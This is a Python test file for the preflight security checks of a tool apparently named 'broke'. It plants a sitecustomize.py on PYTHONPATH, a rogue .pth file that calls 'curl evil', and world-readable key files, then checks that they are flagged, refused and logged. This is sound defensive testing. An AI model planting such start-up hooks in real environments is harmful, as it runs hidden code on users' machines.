"""Preflight: what could hijack broke's interpreter or expose its keys, flagged by doctor and refused by
start (unless --force, which is logged)."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

from broke import preflight
from conftest import assert_one_error_line

CHECKOUT = Path(__file__).resolve().parents[1]


def planted(tmp_path: Path) -> Path:
    """A directory whose sitecustomize.py any Python with it on PYTHONPATH runs at start-up."""
    directory = tmp_path / "planted"
    directory.mkdir()
    (directory / "sitecustomize.py").write_text(
        f"open({str(tmp_path / 'hijacked')!r}, 'w').write('ran inside broke')\n")
    return directory


def test_a_planted_pythonpath_really_reaches_brokes_interpreter(tmp_path):
    env = {**os.environ, "PYTHONPATH": str(planted(tmp_path))}
    subprocess.run([sys.executable, "-c", "import broke"], env=env, check=True, timeout=60)
    assert (tmp_path / "hijacked").read_text() == "ran inside broke"  # what the preflight guards against


def test_doctor_flags_a_planted_pythonpath(cli, monkeypatch, tmp_path):
    monkeypatch.setenv("PYTHONPATH", str(planted(tmp_path)))
    result = cli("doctor", "--static", "--json")
    assert result.exit_code == 1, result.output
    found = [f for f in json.loads(result.stdout)["findings"] if f["code"] == "python_env"]
    assert len(found) == 1 and found[0]["level"] == "error" and found[0]["subject"] == "PYTHONPATH"
    assert "unset PYTHONPATH" in found[0]["message"]


def test_start_refuses_a_planted_pythonpath_and_starts_nothing(cli, broke_home, monkeypatch, tmp_path):
    monkeypatch.setenv("PYTHONPATH", str(planted(tmp_path)))
    monkeypatch.setenv("PYTHONSTARTUP", str(tmp_path / "startup.py"))
    result = cli("start")
    assert_one_error_line(result, "refusing to start the gateway", "PYTHONPATH is set", "--force",
                          "and 1 more")
    assert not (broke_home / "run" / "gateway.json").exists()
    assert cli("status", "--json").exit_code == 0 and not json.loads(cli("status", "--json").stdout)["running"]


def test_a_forced_start_past_a_hijack_is_logged(broke_home, tmp_path):
    findings = preflight.env_findings({"PYTHONHOME": str(tmp_path)})
    assert preflight.enforce(broke_home, findings, command="start the gateway", force=True) == findings
    line = json.loads((broke_home / "run" / preflight.OVERRIDES_LOG).read_text())
    assert line["command"] == "start the gateway" and line["overridden"] == [
        {"code": "python_env", "subject": "PYTHONHOME"}]
    assert preflight.enforce(broke_home, [], command="start the gateway", force=False) == []


def test_a_pth_file_no_package_owns_is_a_hijack(tmp_path):
    assert preflight.pth_findings() == []  # this venv: the editable install's and setuptools' only
    site = tmp_path / "site-packages"
    site.mkdir()
    (site / "zzz-evil.pth").write_text("import os; os.system('curl evil')\n")
    (found,) = preflight.pth_findings(site)
    assert found.hijack and found.code == "unexpected_pth" and "zzz-evil.pth" in found.message


def test_home_and_key_file_open_to_others(tmp_path):
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    (home / ".env").write_text("X_API_KEY=1\n")
    (home / ".env").chmod(0o644)
    (readable,) = preflight.home_findings(home)
    assert readable.level == "warning" and not readable.hijack and "chmod 600" in readable.message
    (home / ".env").chmod(0o666)
    home.chmod(0o777)
    assert [(f.subject, f.hijack) for f in preflight.home_findings(home)] == [(str(home), True),
                                                                              (str(home / ".env"), True)]


def test_the_venv_against_the_lock(tmp_path):
    assert preflight.lock_findings() == []  # ./install.sh --dev: the dev lock, exactly
    checkout = tmp_path / "checkout"
    (checkout / "tools").mkdir(parents=True)
    shutil.copy(CHECKOUT / "tools" / "check_env.py", checkout / "tools")
    (checkout / "requirements.lock").write_text("no-such-package-xyz==1.0 \\\n    --hash=sha256:00\n")
    (found,) = preflight.lock_findings(checkout)
    assert found.level == "warning" and "missing: no-such-package-xyz==1.0" in found.message


def test_a_launch_refuses_a_planted_pythonpath_before_starting_anything(cli, broke_home, monkeypatch, tmp_path):
    monkeypatch.setenv("PYTHONPATH", str(planted(tmp_path)))
    for args in (["claude", "-p", "hi"], ["sandbox", "exec", "strict", "--", "true"]):
        assert_one_error_line(cli(*args), "refusing to launch", "PYTHONPATH is set", "--force")
    assert not (broke_home / "run" / "gateway.json").exists()
